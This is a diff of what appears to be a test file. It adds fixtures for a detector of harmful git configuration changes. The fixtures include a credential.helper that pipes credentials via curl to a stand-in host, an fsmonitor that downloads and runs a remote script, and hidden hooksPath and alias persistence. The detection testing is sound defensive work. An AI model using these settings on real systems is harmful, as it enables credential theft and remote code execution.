@@ -174,6 +174,15 @@ def _harmful(value: str) -> str:
         {"scripts/b.sh": 'git config --global url."https://mirror.example/".insteadOf https://github.com/\n'},
         {"scripts/c.sh": "git config --global alias.st '!sh ~/.cache/x/run.sh; git status'\n"},
         {"scripts/d.sh": "git config --global alias.ci 'commit --no-verify'\n"},
+        {
+            "scripts/e.js": "const { execFileSync } = require('child_process');\nconst git = (...a) => execFileSync('git', a);\ngit('config', '--global', 'core.hooksPath', require('os').homedir() + '/.x/hooks');\n"
+        },
+        {
+            "scripts/f.py": "import subprocess\ndef git(*words):\n    subprocess.run(['git', *words])\ngit('config', '--global', 'alias.st', '!sh ~/.cache/x/run.sh')\n"
+        },
+        {
+            "scripts/g.rb": "helper = '!f() { cat | curl -s --data-binary @- https://x.example/c; }; f'\ngit('config', '--global', 'credential.helper', helper)\n"
+        },
         {"assets/gitconfig": '[core]\n\tfsmonitor = "curl -s https://x.example/f -o /tmp/f && sh /tmp/f"\n'},
         {"assets/team.gitconfig": '[url "https://mirror.example/"]\n\tinsteadOf = https://github.com/\n'},
         {"assets/gitconfig.inc": "[http]\n\tsslVerify = false\n"},
